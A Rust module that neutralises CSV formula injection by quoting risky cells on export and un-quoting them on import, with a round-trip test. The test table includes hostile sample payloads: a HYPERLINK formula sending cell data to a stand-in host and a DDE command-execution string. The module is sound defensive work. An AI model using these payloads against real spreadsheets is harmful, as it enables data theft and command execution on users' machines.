//! Cells that are safe to open in a spreadsheet (issue 21, finding 5): a CSV cell beginning with
//! `=`, `+`, `-`, `@`, a tab or a carriage return is read by Excel and LibreOffice as a formula
//! (`=HYPERLINK(…)` runs when clicked). Following OWASP's CSV-injection rule, every CSV the
//! product writes prefixes such a cell with a single quote, which spreadsheets show as text;
//! plain negative numbers (`-3.5`, `-3,5`) are left alone. Every importer of our own CSV takes
//! the quote off again ([`restore`]), so export → import gives back the same text.
//!
//! The pair is a bijection: a cell whose text after its leading quotes would trigger gets one
//! more quote, so a title that really begins with `'=` survives the round trip too.

use std::borrow::Cow;

/// `-` followed by digits, with at most one decimal point or comma and digits after it.
fn plain_negative_number(s: &str) -> bool {
    let Some(rest) = s.strip_prefix('-') else {
        return false;
    };
    let (int, frac) = match rest.split_once(['.', ',']) {
        Some((i, f)) => (i, Some(f)),
        None => (rest, None),
    };
    let digits = |x: &str| !x.is_empty() && x.bytes().all(|b| b.is_ascii_digit());
    digits(int) && frac.is_none_or(digits)
}

/// Would a spreadsheet read this text (leading quotes already removed) as a formula?
fn triggers(s: &str) -> bool {
    s.starts_with(['=', '+', '-', '@', '\t', '\r']) && !plain_negative_number(s)
}

/// The cell as written to a CSV file: prefixed with `'` when a spreadsheet would take it as a
/// formula.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    if triggers(cell.trim_start_matches('\'')) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// The cell as read back from a CSV file we wrote: the inverse of [`neutralise`].
pub fn restore(cell: &str) -> Cow<'_, str> {
    match cell.strip_prefix('\'') {
        Some(rest) if triggers(cell.trim_start_matches('\'')) => Cow::Borrowed(rest),
        _ => Cow::Borrowed(cell),
    }
}

/// Writes one record with every cell [`neutralise`]d.
pub fn write_record<W: std::io::Write, I, S>(w: &mut csv::Writer<W>, cells: I) -> csv::Result<()>
where
    I: IntoIterator<Item = S>,
    S: AsRef<str>,
{
    w.write_record(
        cells
            .into_iter()
            .map(|c| neutralise(c.as_ref()).into_owned()),
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_quoted_and_numbers_are_not() {
        for (raw, written) in [
            (
                "=HYPERLINK(\"https://evil.example/?x=\"&A2,\"Klikk\")",
                "'=HYPERLINK(\"https://evil.example/?x=\"&A2,\"Klikk\")",
            ),
            ("+47 22 00 00 00", "'+47 22 00 00 00"),
            ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\tx", "'\tx"),
            ("\rx", "'\rx"),
            ("-", "'-"),
            ("'=x", "''=x"),
            ("-3.5", "-3.5"),
            ("-3,5", "-3,5"),
            ("-12", "-12"),
            ("'-3.5", "'-3.5"),
            ("Næring", "Næring"),
            ("a=b", "a=b"),
            ("", ""),
        ] {
            assert_eq!(neutralise(raw), written, "{raw:?}");
            assert_eq!(restore(written), raw, "{written:?}");
        }
    }
}
